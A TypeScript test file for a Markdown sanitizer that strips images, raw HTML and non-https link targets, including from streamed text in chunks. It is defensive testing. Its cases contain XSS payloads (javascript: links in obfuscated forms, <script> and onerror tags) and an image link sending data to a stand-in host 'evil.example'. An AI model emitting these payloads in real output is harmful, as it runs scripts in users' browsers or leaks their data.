import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { processorMs, times, within } from '../testing/index.ts';
import { createSafeMarkdown, safeMarkdown } from './index.ts';

const piece = fc.constantFrom(
  '[',
  ']',
  '(',
  ')',
  '!',
  '<',
  '>',
  '\\',
  ':',
  '\n',
  '\n\n',
  ' ',
  '"',
  '&colon;',
  '&#58;',
  'javascript:',
  'data:text/html,',
  'https://evil.example/?d=',
  'word',
  '`',
  '![',
  '](',
  '<img src=x>',
  '[a]: ',
  '/results/3017620422003',
);
const texts = fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join(''));

/** Targets of links that Markdown would make of a text, found by a reader simpler than the one under test. */
const targets = (text: string) =>
  [...text.matchAll(/(?<!\\)\[(?:\\.|[^\]\\])*\]\(\s*<?(?<target>[^)\s]*)/gu)].map(({ groups }) => groups?.['target'] ?? '');

describe('safeMarkdown', () => {
  it.each([
    ['plain words', 'Oats have **10 g** of fiber.\n\n- one\n- two', 'Oats have **10 g** of fiber.\n\n- one\n- two'],
    ['a table', '| a | b |\n|---|---|\n| 1 | <5 g |', '| a | b |\n|---|---|\n| 1 | <5 g |'],
    ['comparisons', 'salt < 0.3 g and 5 > 3! Good', 'salt < 0.3 g and 5 > 3! Good'],
    ['an https link', '[WHO](https://who.int/a_(b)?c=1#d)', '[WHO](https://who.int/a_(b)?c=1#d)'],
    ['a link into the app', '[Oats](/results/4006040055235)', '[Oats](/results/4006040055235)'],
    [
      'mailto, xmpp, irc and ircs',
      '[a](mailto:a@b.c) [b](xmpp:a@b) [c](irc://x) [d](ircs://x)',
      '[a](mailto:a@b.c) [b](xmpp:a@b) [c](irc://x) [d](ircs://x)',
    ],
    ['boxes to tick', '- [ ] oats\n- [x] milk', '- [ ] oats\n- [x] milk'],
    ['an automatic link', '<https://who.int>', '<https://who.int>'],
  ])('leaves %s as it is', (_name, text, expected) => expect(safeMarkdown(text)).toBe(expected));

  it.each([
    ['a picture', 'a ![see](https://evil.example/?d=secret) b', 'a see b'],
    ['a picture by reference', '![see][ref]\n\n[ref]: https://evil.example', '!&#91;see]&#91;ref]\n\n&#91;ref]: https://evil.example'],
    ['a picture in a link', '[![x](https://evil.example/p)](https://who.int)', '[x](https://who.int)'],
    ['a script link', '[click](javascript:alert(1))', '[click]()'],
    ['a script link in capitals', '[click](JaVaScRiPt:alert(1))', '[click]()'],
    [
      'a script link in entities',
      '[click](javascript&colon;alert(1)) [b](java&#115;cript:x) [c](&#x6A;avascript:x)',
      '[click]() [b]() [c]()',
    ],
    [
      'a script link with hidden characters',
      '[click](java\u200Bscript:x) [b](<java\tscript:x>) [c](\u0001javascript:x)',
      '[click]() [b]() [c]()',
    ],
    ['a script link with an escape', '[click](javascript\\:alert)', '[click]()'],
    ['data and file links', '[a](data:text/html,x) [b](file:///etc/passwd) [c](vbscript:x) [d](blob:x)', '[a]() [b]() [c]() [d]()'],
    ['a title', '[a](https://who.int "title")', '[a](https://who.int)'],
    ['raw HTML', '<script>alert(1)</script><img src=x onerror=alert(1)> ok', 'alert(1) ok'],
    ['an automatic script link', '<javascript:alert(1)>', ''],
    ['brackets that are no link', 'a [note] and \\[one]', 'a &#91;note] and &#91;one]'],
    ['a tag that its removal would make', '<<b>javascript:alert(1)>', '&lt;javascript:alert(1)>'],
    ['a definition', '[x]: javascript:alert(1)\n[go][x]', '&#91;x]: javascript:alert(1)\n&#91;go]&#91;x]'],
    ['a picture that the removal of another would make', '!![](a)[b](https://evil.example)', '&#33;[b](https://evil.example)'],
    ['a target that looks like a picture', '[](![)', '[]()'],
    ['a tag that never ends', 'a <img src=https://evil.example', 'a &lt;img src=https://evil.example'],
    ['a link that never ends', 'see [here](https://evil.example', 'see &#91;here](https://evil.example'],
  ])('takes the sting out of %s', (_name, text, expected) => expect(safeMarkdown(text)).toBe(expected));

  it('gives the same whole however it is cut', () => {
    fc.assert(
      fc.property(texts, fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 20 }), (text, sizes) => {
        const safe = createSafeMarkdown();
        let out = '';
        for (let at = 0, turn = 0; at < text.length; turn += 1) {
          const size = sizes[turn % sizes.length] ?? 1;
          out += safe.push(text.slice(at, at + size));
          at += size;
        }
        expect(out + safe.end()).toBe(safeMarkdown(text));
      }),
      { numRuns: times(400, 10_000) },
    );
  });

  it('whatever comes in, no picture, no definition, no tag and no other protocol goes out', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const out = safeMarkdown(text);
        expect(out).not.toMatch(/^[^<]*!\[/u);
        expect(out).not.toMatch(/<img/u);
        for (const target of targets(out)) expect(target).toMatch(/^(?:$|https:|\/|#|[^:&]*$|[^:&]*[/?#])/u);
      }),
      { numRuns: times(500, 10_000) },
    );
  });

  it('is done with thousands of brackets in the time that a person notices', () => {
    for (const nasty of ['[', '![', '[](', '<a', '[a](<', '\\', '[a](b "']) {
      expect(processorMs(() => safeMarkdown(nasty.repeat(times(5000, 20_000) / nasty.length)))).toBeLessThan(within(3000));
    }
  });

  it('shows words at once and holds back only what may become a link', () => {
    const safe = createSafeMarkdown();
    expect(safe.push('Oats are ')).toBe('Oats are ');
    expect(safe.push('good ([WH')).toBe('good (');
    expect(safe.push('O](https://who.int)')).toBe('[WHO](https://who.int)');
    expect(safe.push(')')).toBe(')');
  });
});
